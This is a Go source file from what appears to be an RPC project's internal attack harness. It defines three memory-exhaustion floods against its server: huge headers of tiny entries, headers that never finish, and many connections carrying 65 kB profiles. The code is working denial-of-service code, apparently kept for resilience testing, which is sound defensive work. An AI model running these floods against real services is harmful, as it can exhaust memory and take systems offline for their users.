//go:build linux

package main

import (
	"strings"
	"time"

	"github.com/nearcall/nearcall/internal/wire"
)

// Attacks with what calls begin with.
var blockAttacks = []*attack{
	{
		name: "header-entries", path: overTCP, full: 6, short: 1,
		what:   "%s calls whose headers of 16 MiB are entries of 2 bytes",
		before: "1.55 GB",
		run:    headerEntries,
	},
	{
		name: "blocks-unfinished", path: overTCP, full: 50, short: 10,
		what:    "%s connections whose headers of 16 MiB do not end",
		before:  "1.66 GB, for as long as they stay",
		release: time.Minute,
		run:     unfinishedBlocks,
	},
	{
		name: "profiles", path: overTCP, full: 50, short: 10,
		what:    "%s connections with 256 profiles of 65 kB each",
		before:  "0.86 GB, for as long as they stay",
		release: time.Second,
		run:     profiles,
	},
}

// blockSize is what servers take by default, but for what a call's head needs
// beside its metadata.
const blockSize = 16<<20 - 64<<10

// firstNames opens a call that gives the method the number 0 and a key of 256
// bytes the number 1, and its profile 1.
func firstNames(p *peer) []byte {
	body := word([]byte{0}, methods+"HalfDuplexCall")
	body = append(body, 0) // a new profile
	for _, s := range []string{"localhost", "attack", "", "", ""} {
		body = word(body, s)
	}
	body = append(body, 0, 1, 0) // no timeout, one entry, a new name
	body = append(word(body, strings.Repeat("k", 256)), 0)
	p.last = 1
	return frame(nil, wire.KindStream|wire.FlagHead, p.last, body...)
}

func headerEntries(a *attacker) error {
	p, err := a.enter(overTCP)
	if err != nil {
		return err
	}
	if err := p.write(firstNames(p)); err != nil {
		return err
	}
	const entries = blockSize/2 - 8
	block := uint62([]byte{2, 1, 0}, entries) // the method, the profile, no timeout
	for range entries {
		block = append(block, 3, 0) // the key, an empty value
	}
	for range a.count {
		p.last += 2
		if err := p.block(block); err != nil {
			return err
		}
	}
	return nil
}

// maxPart is how much of a block goes into a frame.
const maxPart = 60_000

// block sends the head of a call, in pieces.
func (p *peer) block(block []byte) error {
	for len(block) > maxPart {
		if err := p.write(frame(nil, wire.KindPart, p.last, block[:maxPart]...)); err != nil {
			return err
		}
		block = block[maxPart:]
	}
	return p.write(frame(nil, wire.KindStream|wire.FlagHead, p.last, block...))
}

func unfinishedBlocks(a *attacker) error {
	part := make([]byte, maxPart)
	var cut error
	for range a.count {
		p, err := a.enter(overTCP)
		if err != nil {
			return err
		}
		for n := 0; n+maxPart <= blockSize && err == nil; n += maxPart {
			err = p.write(frame(nil, wire.KindPart, 1, part...))
		}
		if err != nil { // the others go on
			cut = err
		}
	}
	return cut
}

func profiles(a *attacker) error {
	const long = 65_000
	name := strings.Repeat("p", long)
	var cut error
	for range a.count {
		p, err := a.enter(overTCP)
		if err != nil {
			return err
		}
		for i := 0; i < 256 && err == nil; i++ {
			p.last = uint64(2*i + 1)
			body := append(word([]byte{1}, "x"), 0) // the method, a new profile
			body = word(body, name)
			body = append(body, 0, 0, 0, 0, 0, 0) // the profile's other parts, no timeout, no metadata
			err = p.write(frame(nil, wire.KindStream|wire.FlagHead|wire.FlagEnd, p.last, body...))
		}
		if err != nil {
			cut = err
		}
	}
	return cut
}
